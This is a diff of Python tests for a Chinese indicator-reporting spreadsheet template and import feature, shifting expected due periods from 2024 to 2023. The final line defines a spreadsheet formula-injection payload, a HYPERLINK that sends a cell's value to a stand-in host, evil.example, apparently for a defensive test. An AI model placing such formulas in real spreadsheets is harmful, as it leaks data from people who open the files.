@@ -336,7 +336,8 @@ def test_template_names_indicator_unit_and_period_in_chinese(entry, indicator):
     _, header, rows = template_rows(entry)
     columns = ["指标代码", "指标名称", "计量单位", "报告期", "报告期末", "数值", "内部备注"]
     assert header[: len(columns)] == columns
-    assert rows[1][:5] == [indicator.code, "脑科学企业", "家", "2024年二季度", "2024-06-30"]
+    # Due from 2023, the year before the indicator's first target.
+    assert rows[1][:5] == [indicator.code, "脑科学企业", "家", "2023年二季度", "2023-06-30"]
 
 
 def test_template_is_a_named_sheet_with_a_frozen_header_and_a_confirm_drop_down(entry, indicator):
@@ -361,15 +362,16 @@ def test_filled_in_template_imports(entry, official, indicator):
     content = xlsx_file([first], header=header)
     import_and_confirm(entry, content, name="figures-due.xlsx", file_format=XLSX)
     actual = Actual.objects.get()
-    assert (actual.indicator, actual.period_end.isoformat()) == (indicator, "2024-03-31")
+    # The first period due: from 2023, the year before the indicator's first target.
+    assert (actual.indicator, actual.period_end.isoformat()) == (indicator, "2023-03-31")
     assert (actual.value, actual.status, actual.entered_by) == (40, "draft", official)
 
 
 def test_template_with_two_of_66_due_rows_filled_imports_two_drafts_and_skips_64(
     entry, official, make_indicator, department, monkeypatch
 ):
-    monkeypatch.setattr(timezone, "localdate", lambda *args: datetime.date(2025, 7, 20))
-    for number in range(11):  # quarterly since 2024: six periods due each by July 2025
+    monkeypatch.setattr(timezone, "localdate", lambda *args: datetime.date(2024, 7, 20))
+    for number in range(11):  # quarterly from 2023: six periods due each by July 2024
         make_indicator(name=f"脑科学指标{number}", department=department, target="100")
     _, header, rows = template_rows(entry)
     for row, value in zip(rows[:2], (40, 42), strict=True):
@@ -533,7 +535,7 @@ def test_template_words_a_year_to_date_indicators_periods_as_the_months_it_sums(
 ):
     make_indicator(department=department, target="100", reported_as="year_to_date")
     _, header, rows = template_rows(entry)
-    assert rows[1][header.index("报告期")] == "2024年1–6月累计"
+    assert rows[1][header.index("报告期")] == "2023年1–6月累计"
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
